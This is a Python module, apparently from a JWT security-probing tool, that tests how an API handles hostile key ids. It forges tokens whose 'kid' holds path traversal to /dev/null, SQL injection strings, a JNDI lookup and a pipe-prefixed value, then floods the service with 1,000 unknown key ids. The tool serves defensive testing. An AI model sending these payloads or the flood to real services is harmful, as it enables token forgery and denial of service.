"""AP-JWT-05."""

import secrets
import statistics
import time

from doorward.probe.finding import Finding, Result, blocked, inconclusive, succeeded
from doorward.probe.forgery import Forged, Jwt, attacker, mac
from doorward.probe.lab import Lab
from doorward.probe.token_attack import TokenAttack, bearer, genuine, judge, show, taken
from doorward.probe.wire import Reply

_STAMPEDE = 1000
_SLOWEST = 2.0
_AT_ONCE = 24
_PATIENCE = 12.0


class KeyIds(TokenAttack):
    """Key ids that are paths, queries, or unknown by the thousand."""

    id = "AP-JWT-05"
    title = "Hostile key ids, and a stampede of unknown ones"
    sources = ("RFC 8725 3.10", "API4", "API8")
    does = "Names keys by paths, SQL and nonsense, then shows 1,000 tokens with unknown key ids at once."
    mend = "Look key ids up in memory only; ask the issuer at most once per cool-down for ids that are not known."
    order = 80

    async def attack(self, lab: Lab) -> Finding:
        """The odd ones first; then the stampede, in which a user's request must still be answered."""
        jwt = await genuine(lab)
        odd = await judge(lab, await show(lab, _odd(jwt)))
        if odd.result is not Result.BLOCKED:
            return odd
        usual = await _usual_seconds(lab)
        stampede = _Stampede(lab, jwt)
        started = time.monotonic()
        replies = await lab.together([stampede.one(number) for number in range(_STAMPEDE)], at_once=_AT_ONCE)
        return stampede.judged([reply for reply in replies if reply is not None], usual, time.monotonic() - started)


class _Stampede:
    """Tokens with unknown key ids, and the user's own among them."""

    def __init__(self, lab: Lab, jwt: Jwt) -> None:
        self._lab = lab
        self._header = jwt.header
        self._claims = jwt.claims
        self._signature = jwt.signature
        self._until = time.monotonic() + _PATIENCE
        self._own: list[Reply] = []

    async def one(self, number: int) -> Reply | None:
        """One bad token (all bear the old signature: signing costs more than looking a key up); every hundredth time
        the user's own as well. None when the time is up."""
        if time.monotonic() > self._until:
            return None
        if number % 100 == 50:
            self._own.append(await self._lab.present([await self._lab.bearer()]))
        header = {**self._header, "kid": secrets.token_hex(12)}
        signed = Jwt(
            header=header, claims=self._claims, signed=_signed(header, self._claims), signature=self._signature
        )
        return await self._lab.present([bearer(signed.text)])

    def judged(self, replies: list[Reply], usual: float, took: float) -> Finding:
        """Refused, without errors, while the user was served about as fast as before."""
        figures = {"tokens": float(len(replies)), "seconds": round(took, 2), "usual_seconds": round(usual, 4)}
        opened = [reply for reply in replies if taken(self._lab, reply)]
        if opened:
            return succeeded(f"{len(opened)} tokens with unknown key ids were taken.", opened[0], **figures)
        broken = [reply for reply in replies if reply.status >= 500 or reply.status == 0]
        if broken:
            sentence = f"{len(broken)} of {len(replies)} unknown key ids ended in an error or in no answer at all."
            return succeeded(sentence, broken[0], **figures)
        unserved = [reply for reply in self._own if reply.status not in (200, 429)]
        slow = [reply for reply in self._own if reply.seconds > max(_SLOWEST, 20 * usual)]
        if unserved or slow or len(replies) < _STAMPEDE:
            sentence = f"{len(replies)} unknown key ids in {took:.1f} s kept users from being served in time."
            return succeeded(sentence, *(unserved + slow)[:2], **figures)
        if any(reply.status == 429 for reply in self._own):
            return inconclusive("A rate limit answered in the stampede, to the user too.", self._own[-1])
        sentence = (
            f"Hostile key ids were refused, and so were {len(replies)} unknown ones in {took:.1f} s, while the user "
            "was served as before. Fetches of the issuer's keys cannot be seen from outside."
        )
        return blocked(sentence, replies[0], **figures)


def _signed(header: dict[str, object], claims: dict[str, object]) -> str:
    return mac(header, claims, b"").rsplit(".", 1)[0]


async def _usual_seconds(lab: Lab) -> float:
    return statistics.median([(await lab.present([await lab.bearer()])).seconds for _ in range(3)])


def _odd(jwt: Jwt) -> list[Forged]:
    key = attacker()
    empty_secret = ["../../../../../../dev/null", "/dev/null", "file:///dev/null", "..%2f..%2f..%2fdev%2fnull"]
    known_secret = ["x' UNION SELECT 'probe'-- ", '"; SELECT "probe"; --', "${jndi:ldap://127.0.0.1/probe}", "|probe"]
    odd: list[object] = ["", " ", "\0", "..", 0, -1, None, True, [], ["a"], {}, {"$ne": ""}, "k" * 4000, "\u202e"]
    return [
        *(
            Forged(f"kid {kid!r}, secret empty", mac({**jwt.header, "kid": kid}, jwt.claims, b""))
            for kid in empty_secret
        ),
        *(Forged(f"kid {kid!r}", mac({**jwt.header, "kid": kid}, jwt.claims, b"probe")) for kid in known_secret),
        *(Forged(f"kid {str(kid)[:20]!r}", key.sign({**jwt.header, "kid": kid}, jwt.claims)) for kid in odd),
    ]
